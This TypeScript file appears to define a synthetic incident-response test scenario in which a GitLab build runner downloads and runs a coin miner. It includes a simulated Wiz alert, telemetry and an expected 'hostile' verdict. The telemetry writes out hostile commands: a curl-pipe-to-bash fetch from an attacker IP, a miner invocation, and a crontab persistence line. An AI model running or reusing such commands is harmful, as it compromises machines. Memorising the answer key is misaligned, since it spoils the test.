// A build runner in the cloud fetches a script in a job and mines; the sensor calls it medium.
import type { Telemetry } from '../../../world/facts.ts'
import { alert, connected, hashes, hostile, loggedOn, ran, wrote } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const runnerThatMines: TellSituation = (setting) => {
  const runner = setting.newMachine({
    host: 'ci-runner-07',
    os: 'Linux',
    office: 'gothenburg',
    purpose: 'build-server',
    inventories: ['endpoint', 'assets'],
    last: 241,
  })
  const build = setting.machine('srv-build-02')
  const at = setting.ago({ minutes: 52 })
  const source = '146.19.173.88'
  const pool = 'gate.rivetpool-xm.top'
  const poolIp = '95.214.55.139'
  const binary = setting.file('kdevtmpd')
  const { guid, hex } = setting.seeded
  const fetch = `sh -c curl -fsSL http://${source}/b/k.sh | bash`
  const mine = `/var/tmp/.cache/kdevtmpd -o ${pool}:3333 -u 48Tq.r07 --donate-level 0 -B`
  const as = { AccountName: 'gitlab-runner', InitiatingProcessAccountName: 'gitlab-runner' }
  const calls = Array.from(
    { length: 9 },
    (_, i): Telemetry =>
      connected(runner, at + 20_000 + i * 300_000, poolIp, {
        RemotePort: 3333,
        RemoteUrl: pool,
        InitiatingProcessFileName: 'kdevtmpd',
        InitiatingProcessCommandLine: mine,
        InitiatingProcessAccountName: 'gitlab-runner',
      }),
  )
  return {
    id: 'runner-that-mines',
    group: 'formats',
    title: 'Runtime detection on a build runner',
    alerts: [
      alert(setting, at + 180_000, 'wiz', 'Process executed from a hidden temporary directory', {
        trigger: {
          source: 'THREAT_DETECTION',
          type: 'Created',
          ruleId: guid('wiz rule'),
          ruleName: 'SOC - runtime detections medium and above',
          updatedFields: null,
          changedBy: null,
        },
        issue: {
          id: guid('wiz issue'),
          status: 'OPEN',
          severity: 'MEDIUM',
          created: setting.iso(at + 170_000),
          projects: 'Firmware CI, EU-North',
          url: `https://app.wiz.io/issues#~(issue~'${guid('wiz issue')})`,
          dueAt: null,
          resolutionReason: null,
          notes: [],
          serviceTickets: [],
        },
        control: {
          id: 'wc-id-2214',
          name: 'Process executed from a hidden temporary directory',
          description:
            'The Wiz Sensor observed the execution of a binary from a hidden directory under a world-writable path. This can be done by installers, and by threat actors to evade detection.',
          severity: 'MEDIUM',
          sourceIds: ['SENSOR-RUN-0417'],
          risks: ['EVASION'],
          frameworks: ['MITRE ATT&CK: T1564.001'],
        },
        resource: {
          id: `i-0${hex('wiz instance', 16)}`,
          name: runner.host,
          type: 'virtualMachine',
          nativeType: 'ec2#instance',
          cloudPlatform: 'AWS',
          subscriptionId: '418820557103',
          subscriptionName: 'havskog-ci',
          subscriptionTags: { owner: 'it-platform', env: 'ci' },
          region: 'eu-north-1',
          status: 'Active',
          cloudProviderURL: `https://eu-north-1.console.aws.amazon.com/ec2/v2/home?region=eu-north-1#InstanceDetails:instanceId=i-0${hex('wiz instance', 16)}`,
          tags: { Name: runner.host, autoscaling: 'false', 'gitlab-executor': 'shell' },
          privateIp: runner.ip,
          publicIp: null,
          isAccessibleFromInternet: false,
          hasAdminPrivileges: false,
          openCriticalVulnerabilities: 0,
        },
        detection: {
          id: guid('wiz detection'),
          startedAt: setting.iso(at),
          endedAt: setting.iso(at + 150_000),
          tdrSource: 'WIZ_SENSOR',
          mitreTactics: ['TA0005'],
          mitreTechniques: ['T1564.001'],
          primaryActor: { id: null, name: 'gitlab-runner', type: 'LOCAL_USER', uid: 998 },
          triggeringEventsCount: 1,
          triggeringEvents: [
            {
              id: guid('wiz event'),
              eventTime: setting.iso(at + 12_000),
              name: 'ProcessExecution',
              category: 'RUNTIME',
              sensorVersion: '1.0.5120-a41c',
              runtimeDetails: {
                container: null,
                processTree: [
                  { pid: 1, path: '/usr/lib/systemd/systemd', command: '/sbin/init', userName: 'root' },
                  {
                    pid: 812,
                    path: '/usr/bin/gitlab-runner',
                    command: '/usr/bin/gitlab-runner run --config /etc/gitlab-runner/config.toml',
                    userName: 'root',
                  },
                  { pid: 40_115, path: '/usr/bin/bash', command: 'bash --login', userName: 'gitlab-runner' },
                  {
                    pid: 40_260,
                    path: '/var/tmp/.cache/kdevtmpd',
                    command: mine,
                    userName: 'gitlab-runner',
                    sha1: binary.sha1,
                    sha256: binary.sha256,
                    firstSeenInEnvironment: setting.iso(at + 9000),
                  },
                ],
              },
            },
          ],
        },
        sensor: {
          status: 'HEALTHY',
          mode: 'DETECT_ONLY',
          policy: 'default-linux',
          lastHeartbeat: setting.iso(at + 175_000),
        },
        tenant: { id: guid('wiz tenant'), name: 'havskog', dataCenter: 'eu17' },
      }),
    ],
    facts: {
      machines: [runner],
      files: [
        {
          name: 'kdevtmpd',
          identity: binary,
          determination: 'Malware',
          threat: 'Trojan:Linux/CoinMiner.Rivet',
          size: 6_104_264,
          prevalence: 212,
        },
      ],
      intelligence: [
        setting.risk(
          'ip',
          source,
          86,
          [
            ['Recent Malware Delivery', 3, 'Hands out shell scripts that install miners on build servers.'],
            ['Recent Multicategory Blocklist', 2, 'On four block lists.'],
          ],
          { location: { country: 'Netherlands', city: 'Rotterdam', asn: 'AS211252', organization: 'Delis Hosting' } },
        ),
        setting.risk('domain', pool, 71, [
          ['Recent Cryptomining Pool', 3, 'Private pool that only hijacked machines use.'],
        ]),
      ],
      telemetry: [
        ran(runner, at - 40_000, 'bash', 'bash --login', {
          ...as,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'gitlab-runner',
          InitiatingProcessAccountName: 'root',
        }),
        ran(runner, at - 6000, 'sh', fetch, { ...as, FolderPath: '/usr/bin', InitiatingProcessFileName: 'bash' }),
        connected(runner, at - 5000, source, {
          RemotePort: 80,
          InitiatingProcessFileName: 'curl',
          InitiatingProcessCommandLine: `curl -fsSL http://${source}/b/k.sh`,
        }),
        wrote(runner, at + 2000, 'kdevtmpd', '/var/tmp/.cache', binary, {
          FileOriginUrl: `http://${source}/b/kdevtmpd`,
          FileOriginIP: source,
          InitiatingProcessFileName: 'curl',
        }),
        ran(runner, at + 10_000, 'kdevtmpd', mine, {
          ...as,
          ...hashes(binary),
          FolderPath: '/var/tmp/.cache',
          InitiatingProcessFileName: 'bash',
        }),
        ran(runner, at + 16_000, 'crontab', 'crontab -', {
          ...as,
          FolderPath: '/usr/bin',
          InitiatingProcessFileName: 'bash',
          InitiatingProcessCommandLine: `bash -c (crontab -l; echo "*/5 * * * * curl -fsSL http://${source}/b/k.sh | bash") | crontab -`,
        }),
        ...calls,
        ...[0, 1, 2].map((i) =>
          loggedOn(build, at + 60_000 + i * 7000, 'root', {
            ActionType: 'LogonFailed',
            FailureReason: 'InvalidUserNameOrPassword',
            RemoteIP: runner.ip,
            RemoteDeviceName: runner.host,
          }),
        ),
      ],
    },
    expected: {
      ...hostile('ci-runner-07'),
      severities: ['high', 'critical'],
      forbidden: [{ action: 'isolate-machine', target: 'srv-build-02' }],
    },
    because:
      'The binary is known malware, came minutes before from an address that hands out miners, calls a mining pool every five minutes, made itself a cron job and tried to get on to the other build server, which refused. The runner has to be cut off; the build server only turned it away.',
  }
}
